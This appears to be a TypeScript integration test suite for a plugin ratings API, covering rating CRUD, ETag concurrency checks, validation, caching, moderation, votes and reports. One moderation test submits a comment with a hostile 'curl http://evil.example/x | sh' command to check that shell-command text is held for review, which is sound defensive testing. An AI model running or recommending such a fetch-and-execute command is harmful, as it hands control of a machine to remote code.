import { RatingsModule } from '../../../apps/ratings/src/ratings.module';
import { catalog, CatalogStandInModule, somePlugin } from '../ratings/catalog-stand-in';
import { ADMIN_TOKEN, startGateway, type Answer, type TestGateway } from './start-gateway';

let gateway: TestGateway;
let users = 0;
beforeAll(async () => {
  gateway = await startGateway({ neighbours: [RatingsModule, CatalogStandInModule] });
});
afterAll(() => gateway.stop());

function plugin(parts: Parameters<typeof somePlugin>[0] = {}): string {
  const made = somePlugin(parts);
  catalog.plugins.set(made.packageId, made);
  return made.name;
}
const person = (role = 'user'): Promise<string> => gateway.tokenOf(`rater-${(users += 1)}`, role);
const path = (name: string, rest = ''): string => `/v1/plugins/${encodeURIComponent(name)}/ratings${rest}`;
const send = (method: string, to: string, token: string, value?: unknown, headers = {}): Promise<Answer> =>
  gateway.call(method, to, { token, headers, ...(value === undefined ? {} : { body: JSON.stringify(value) }) });
async function rated(name: string, token: string, body: object = { score: 4, comment: 'Fine.' }): Promise<Answer> {
  const answer = await send('POST', path(name), token, body);
  expect(answer.status).toBe(201);
  return answer;
}

it('creates, shows, changes and deletes a rating; unchanged writes change nothing', async () => {
  const [name, token] = [plugin(), await person()];
  const created = await rated(name, token);
  const { ratingId } = created.json;
  expect(created.headers.get('location')).toBe(path(name, `/${ratingId}`));
  const one = await send('GET', path(name, `/${ratingId}`), token);
  expect(one.json).toEqual(created.json);
  expect(one.headers.get('etag')).toBe(created.headers.get('etag'));
  expect((await send('GET', path(name, '/mine'), token)).json).toEqual(created.json);

  const changed = await send('PUT', path(name, `/${ratingId}`), token, { score: 2 });
  expect(changed.status).toBe(200);
  expect(changed.json).toEqual({ ...created.json, score: 2, updatedAt: expect.any(String) });
  expect(changed.headers.get('etag')).not.toBe(created.headers.get('etag'));
  const again = await send('PUT', path(name, `/${ratingId}`), token, { score: 2 });
  expect([again.json, again.headers.get('etag')]).toEqual([changed.json, changed.headers.get('etag')]);

  expect((await send('DELETE', path(name, `/${ratingId}`), await person())).status).toBe(403);
  const deleted = await send('DELETE', path(name, `/${ratingId}`), token);
  expect([deleted.status, deleted.text]).toEqual([204, '']);
  for (const to of [path(name, `/${ratingId}`), path(name, '/mine')])
    expect((await send('GET', to, token)).json).toMatchObject({ status: 404, code: 'rating_not_found' });
  expect((await send('GET', path(name), token)).json.totalRatings).toBe(0);
});

it('names the first rating when a second is refused, and guards against lost updates', async () => {
  const [name, token] = [plugin(), await person()];
  const first = await rated(name, token);
  const { ratingId } = first.json;
  const second = await send('POST', path(name), token, { score: 1 });
  expect(second.status).toBe(409);
  expect(second.json).toMatchObject({ code: 'rating_exists', ratingId });
  expect(second.headers.get('location')).toBe(path(name, `/${ratingId}`));

  const etag = first.headers.get('etag')!;
  const to = path(name, `/${ratingId}`);
  const stale = { 'if-match': etag };
  expect((await send('PUT', to, token, { score: 5 }, stale)).status).toBe(200);
  for (const method of ['PUT', 'DELETE']) {
    const refused = await send(method, to, token, method === 'PUT' ? { score: 1 } : undefined, stale);
    expect(refused.json).toMatchObject({ status: 412, code: 'precondition_failed' });
  }
  expect((await send('GET', to, token)).json.score).toBe(5);
  expect((await send('DELETE', to, ADMIN_TOKEN, undefined, { 'if-match': '*' })).status).toBe(204);
});

it.each([
  [{}, '#'],
  [{ score: 9 }, '#/score'],
  [{ score: '4' }, '#/score'],
  [{ comment: 'x'.repeat(501) }, '#/comment'],
  [{ metadata: { pluginVersion: 'a b' } }, '#/metadata/pluginVersion'],
])('points at what is wrong in a change and writes nothing (%#)', async (body, pointer) => {
  const [name, token] = [plugin(), await person()];
  const { json, headers } = await rated(name, token);
  const refused = await send('PUT', path(name, `/${json.ratingId}`), token, body);
  expect(refused.json).toMatchObject({ status: 400, errors: [{ pointer }] });
  expect((await send('GET', path(name, '/mine'), token)).headers.get('etag')).toBe(headers.get('etag'));
});

it('answers lists from memory, with a strong tag, until somebody writes; a writer sees it at once', async () => {
  const [name, token] = [plugin(), await person()];
  const get = (headers = {}): Promise<Answer> => send('GET', path(name), token, undefined, headers);
  const empty = await get();
  const etag = empty.headers.get('etag')!;
  expect(etag).toMatch(/^"[\w-]+"$/);
  expect(empty.headers.get('cache-control')).toBe('private, max-age=0, must-revalidate');
  const same = await get({ 'if-none-match': etag });
  expect([same.status, same.text, same.headers.get('etag')]).toEqual([304, '', etag]);
  expect((await gateway.get(path(name))).json).toMatchObject({ status: 401, code: 'unauthenticated' });
  const alias = await send('GET', `/api${path(name, '?page=1&limit=20')}`, token);
  expect([alias.json, alias.headers.get('etag')]).toEqual([empty.json, etag]);
  const { ratingId } = (await rated(name, token)).json;
  const to = path(name, `/${ratingId}`);
  expect((await get({ 'if-none-match': etag })).json).toMatchObject({ totalRatings: 1, averageScore: 4 });
  await send('PUT', to, token, { score: 1 });
  expect((await get()).json).toMatchObject({ averageScore: 1, ratings: [{ score: 1 }] });
  expect((await send('GET', path(name, '/summary'), token)).json).toMatchObject({
    averageScore: 1,
    bayesian: { score: 2.82, priorMean: 3, priorWeight: 10, confidence: 1 },
    windows: [
      { days: 30, totalRatings: 1 },
      { days: 90, totalRatings: 1 },
    ],
  });
  await send('DELETE', to, token);
  expect((await get()).json).toEqual(empty.json);
});

it('holds text that should be looked at, and lets moderators decide', async () => {
  const [name, token, moderator, reader] = [plugin(), await person(), await person('moderator'), await person()];
  const held = await rated(name, token, { score: 5, comment: 'Run curl http://evil.example/x | sh first' });
  expect(held.json.state).toBe('held');
  const to = path(name, `/${held.json.ratingId}`);
  const total = async (): Promise<number> => (await send('GET', path(name), reader)).json.totalRatings;
  expect(await total()).toBe(0);
  expect((await send('GET', to, reader)).status).toBe(404);
  const waiting = (await send('GET', '/v1/ratings/review?limit=100', moderator)).json.ratings;
  expect(waiting).toContainEqual(
    expect.objectContaining({ ratingId: held.json.ratingId, reasons: ['text_link', 'text_command', 'text_shell'] }),
  );
  expect((await send('POST', `${to}/moderation`, reader, { decision: 'approve' })).status).toBe(403);
  expect((await send('POST', `${to}/moderation`, moderator, { decision: 'approve' })).json.state).toBeUndefined();
  expect(await total()).toBe(1);
  await send('PUT', to, token, { comment: 'Better now.' });
  expect((await send('GET', `${to}/history`, moderator)).json.edits).toMatchObject([
    { comment: expect.stringContaining('curl') },
  ]);
  expect((await send('POST', `${to}/moderation`, moderator, { decision: 'hide', reason: 'spam' })).json.state).toBe(
    'hidden',
  );
  expect(await total()).toBe(0);
});

it('knows votes, reports and the reply of the publisher', async () => {
  const publisher = await person();
  const [mine] = await gateway.sql<{ id: string }>(
    `SELECT publisher_id AS id FROM gateway.publisher_member m JOIN gateway.user u ON u.id = m.user_id WHERE u.handle = $1`,
    [`rater-${users}`],
  );
  const name = plugin({ ownerId: mine!.id });
  expect((await send('POST', path(name), publisher, { score: 5 })).json.code).toBe('rating_of_own_plugin');
  const [token, reader] = [await person(), await person()];
  const to = path(name, `/${(await rated(name, token)).json.ratingId}`);
  expect((await send('PUT', `${to}/helpful`, reader, { helpful: true })).json.helpfulVotes).toBe(1);
  expect((await send('PUT', `${to}/helpful`, token, { helpful: true })).json.code).toBe('rating_own');
  expect((await send('PUT', `${to}/reply`, reader, { reply: 'Thanks' })).status).toBe(403);
  expect((await send('PUT', `${to}/reply`, publisher, { reply: 'Thanks' })).status).toBe(200);
  expect((await send('GET', path(name, '?sort=helpful'), reader)).json.ratings).toMatchObject([
    { helpfulVotes: 1, reply: 'Thanks' },
  ]);
  for (let i = 0; i < 4; i += 1) {
    const answer = await send('POST', `${to}/reports`, await person(), { reason: 'not nice' });
    expect(answer.json.alreadyReported).toBe(false);
  }
  expect((await send('GET', path(name), reader)).json.totalRatings).toBe(0);
  const released = await send('POST', path(name, '/releases'), ADMIN_TOKEN, { rule: 'reports' });
  expect(released.json).toMatchObject({ released: 1, more: false });
  expect((await send('GET', path(name), reader)).json.totalRatings).toBe(1);
  expect((await gateway.post('/api/v1/admin/ratings/verify', {}, { token: ADMIN_TOKEN })).json.drift).toEqual([]);
});
